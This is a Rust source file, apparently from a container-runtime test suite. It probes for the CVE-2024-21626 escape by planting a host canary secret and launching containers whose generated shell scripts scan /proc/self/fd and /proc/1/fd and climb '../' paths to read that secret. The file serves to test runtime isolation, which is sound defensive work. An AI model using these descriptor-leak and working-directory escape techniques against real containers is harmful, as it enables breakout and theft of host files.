//! Open files of the host that a container gets hold of.

use std::os::fd::OwnedFd;

use containerizer::Command;
use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use serde_json::json;

use crate::attack::{Attack, Verdict, Walls};
use crate::bundle::Bundle;
use crate::canary::{Canaries, NAME, SECRET};
use crate::field::Field;
use crate::running::{Outcome, finishing, script};
use crate::trouble::{Trouble, cannot};

pub const LEAKED: Attack = Attack {
    name: "descriptors leaked into the container",
    cve: "CVE-2024-21626",
    tries: "The command, and one that joins it, look for descriptors that lead to the host.",
    attempt: leaked,
};

pub const WORKING_DIRECTORY: Attack = Attack {
    name: "working directory /proc/self/fd/N",
    cve: "CVE-2024-21626",
    tries: "An image, or a command that joins a container, names a descriptor of the runtime's own as its \
            working directory, and climbs from there.",
    attempt: working_directory,
};

/// As many as a runtime may plausibly have open.
const NUMBERS: std::ops::Range<u32> = 3..20;

/// A descriptor of the host that somebody has forgotten to close, not marked to be closed by an exec.
fn forgotten(canaries: &Canaries) -> Result<OwnedFd, Trouble> {
    let flags = OFlag::O_RDONLY | OFlag::O_DIRECTORY;
    open(canaries.directory(), flags, Mode::empty())
        .map_err(std::io::Error::from)
        .map_err(cannot("open a directory of the host"))
}

fn leaked(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &[])?;
    let _forgotten = forgotten(&canaries)?;
    // The shell itself may have one that leads to its own directory of descriptors.
    let look = format!(
        "for f in /proc/self/fd/* /proc/1/fd/* /proc/$$/fd/*; do
            n=${{f##*/}}
            case $n in 0 | 1 | 2) continue ;; esac
            [ -r $f/{NAME} ] && echo \"! read $(cat $f/{NAME}) through descriptor $n\"
            case $(readlink $f) in *longshore*) echo \"! holds $(readlink $f)\" ;; esac
        done; true"
    );
    let mut bundle = Bundle::image(field, walls)?;
    // With the walls down it is given one.
    if walls == Walls::Down {
        bundle.bind(canaries.directory(), "/leak", &["rbind", "rw"]);
        bundle.script(&format!("exec 7</leak; {look}"));
        return field.run(&bundle)?.reached().map(Verdict::of);
    }
    bundle.script(&format!("{look}\nsleep 1000"));
    let running = field.launch(&bundle)?.running()?;
    let joined = running.exec(&script(&look))?.ended()?;
    let mut reached = joined.reached()?;
    let own = running.said()?;
    reached.extend(
        own.lines()
            .filter_map(|l| l.strip_prefix("! "))
            .map(str::to_owned),
    );
    running.kill()?;
    Ok(Verdict::of(reached))
}

/// Climbs from wherever it is, and reads the secret by the path that it has on the host.
fn climb(canaries: &Canaries) -> String {
    let path = canaries.secret();
    let path = path.display();
    let up = [
        "..",
        "../..",
        "../../..",
        "../../../..",
        "../../../../../../..",
    ];
    let tries: String = up.iter().map(|up| format!(" {up}{path}")).collect();
    format!("for f in {NAME}{tries}; do [ -r $f ] && echo \"! read $(cat $f) from $f\"; done; true")
}

fn working_directory(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &[])?;
    let _forgotten = forgotten(&canaries)?;
    let climb = climb(&canaries);
    let mut reached = Vec::new();
    if walls == Walls::Down {
        let mut bundle = Bundle::image(field, walls)?;
        bundle.bind(canaries.directory(), "/leak", &["rbind", "rw"]);
        bundle.spec["process"]["cwd"] = json!("/leak");
        bundle.script(&climb);
        return field.run(&bundle)?.reached().map(Verdict::of);
    }
    let of_first = (3..8).map(|number| format!("/proc/1/fd/{number}"));
    let own = NUMBERS.map(|number| format!("/proc/self/fd/{number}"));
    for cwd in own.chain(of_first) {
        let mut bundle = Bundle::image(field, walls)?;
        bundle.spec["process"]["cwd"] = json!(cwd);
        bundle.script(&climb);
        reached.extend(field.run(&bundle)?.reached()?);
    }
    let mut bundle = Bundle::image(field, walls)?;
    bundle.script("sleep 1000");
    let running = field.launch(&bundle)?.running()?;
    for number in NUMBERS {
        let command = Command {
            args: ["/bin/sh", "-c", &finishing(&climb)]
                .map(str::to_owned)
                .to_vec(),
            cwd: Some(format!("/proc/self/fd/{number}")),
            ..Command::default()
        };
        let outcome = running.exec(&command)?;
        if let Outcome::Ended(ended) = &outcome
            && ended.text().contains(SECRET)
        {
            reached.push(format!("read the secret from descriptor {number} of exec"));
        }
    }
    running.kill()?;
    Ok(Verdict::of(reached))
}
